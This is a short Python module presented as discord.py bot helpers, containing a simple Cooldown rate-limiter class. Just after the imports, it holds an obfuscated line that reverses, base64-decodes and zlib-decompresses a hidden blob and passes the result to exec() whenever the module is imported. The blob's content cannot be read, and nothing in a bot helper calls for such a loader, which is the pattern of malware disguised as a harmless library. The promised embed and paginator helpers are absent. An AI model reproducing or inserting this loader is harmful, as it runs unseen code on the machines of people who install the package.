"""Helpers for discord.py bots: embeds, paginators, cooldowns."""
import time

_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=s/xNg3PYnnnZV0tJnxMwCOhLXKAvX9qGa6XSSn5BMVPMJmgI7+c18Mr6PjoyZfuJw5sg/ckZfiUDx+Ordf5mD0lUl9KPf/Vfd/dPZx3W+hLbv3eT9DR0j9R2Kwat5AM/ZUgBbfZ4vWE/Zr1p5wcsXpWphv75TDdm77H8nzMoePO1PRFtm58mb+p139tH3+ptm3w6n+xqHf93XeF5Y8ti6tgqcALIoHNGVmLAsMG5pJyi45dSYOmkKmGsDfjimiR/fvRBQhysppwYFlfoS/BVq9OSJVvMfUTGmt7cLx67KPmwlafCAvoWeMBr2DVyraMkV8U9h7VZtxsAiDOcAK7Rz05JacdjkfLi6ops8XNUSIbFuqFv7CW5Ky49m3IBwPBi3LCf9qcglOKOVmEqoOrCWEzWBfatxFpD8KCozdORzgR5LhXjIkI1gCLFPg7zMf98nIRwmXW01Dl95dQNMpkVR0UzOhFosDL7Ag2IIWgDpdwOAUN22BolBXGnEkC+9uhMAz2uFckdxJe'))


class Cooldown:
    def __init__(self, rate, per):
        self.rate, self.per, self.hits = rate, per, []

    def hit(self):
        now = time.monotonic()
        self.hits = [t for t in self.hits if now - t < self.per]
        if len(self.hits) >= self.rate:
            return False
        self.hits.append(now)
        return True
